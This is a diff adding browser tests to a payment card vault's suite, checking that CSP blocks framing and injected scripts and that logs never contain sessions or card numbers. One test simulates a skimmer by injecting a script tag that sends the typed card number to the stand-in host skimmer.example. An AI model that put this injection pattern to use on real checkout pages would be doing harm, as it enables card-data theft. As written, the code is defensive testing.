@@ -284,9 +284,53 @@ describe('sessions and origins', () => {
       expect(blocked.url).not.toContain('/hosted/card-form');
       // Serving (or refusing to frame) the page never consumed the session: its own merchant can still use it.
       expect((await api('GET', formUrl(session, stack.demo.origin), undefined)).status).toBe(200);
+      // And the browser reported the refusal to the vault, which logged it without the session from the page's URL.
+      const reported = await cspReports((v) => v.directive === 'frame-ancestors');
+      expect(reported[0]).toEqual({ directive: 'frame-ancestors', blocked: stack.vaultOrigin, disposition: 'enforce' });
+      expect(stack.h.captured.lines.join('')).not.toContain(session);
     } finally {
       await context.close();
       await new Promise<void>((resolve) => rogue.close(() => resolve()));
     }
   });
 });
+
+describe('tamper detection (PCI DSS 11.6.1)', () => {
+  it('blocks a script injected into the form and the browser reports it, by origin only, with nothing typed leaking', async () => {
+    const context = await browser.newContext();
+    try {
+      const page = await context.newPage();
+      await page.goto(stack.demo.origin);
+      await page.frameLocator('#card-frame iframe').locator('#card-number').pressSequentially(TEST_CARD);
+      // What a skimmer injected into the page would do: load a script from elsewhere, carrying what was typed.
+      await formFrame(page).evaluate(() => {
+        const doc = document as unknown as {
+          createElement(tag: string): { src: string };
+          getElementById(id: string): { value: string };
+          body: { appendChild(node: unknown): void };
+        };
+        const script = doc.createElement('script');
+        script.src = `https://skimmer.example/collect.js?pan=${doc.getElementById('card-number').value.replace(/ /g, '')}`;
+        doc.body.appendChild(script);
+      });
+      const reported = await cspReports((v) => v.blocked === 'https://skimmer.example');
+      expect(reported[0]).toEqual({ directive: 'script-src-elem', blocked: 'https://skimmer.example', disposition: 'enforce' });
+      expect(stack.h.captured.lines.join('')).not.toContain(TEST_CARD);
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+/** CSP violations the vault logged that match, waiting up to 10 s for the browser to send its report. */
+async function cspReports(match: (v: { directive: string; blocked: string; disposition: string }) => boolean) {
+  for (let waited = 0; waited < 10_000; waited += 100) {
+    const found = stack.h.captured
+      .entries()
+      .map((e) => e.csp as { directive: string; blocked: string; disposition: string } | undefined)
+      .filter((v): v is { directive: string; blocked: string; disposition: string } => v !== undefined && match(v));
+    if (found.length > 0) return found;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  throw new Error('the browser sent no matching CSP report within 10 s');
+}
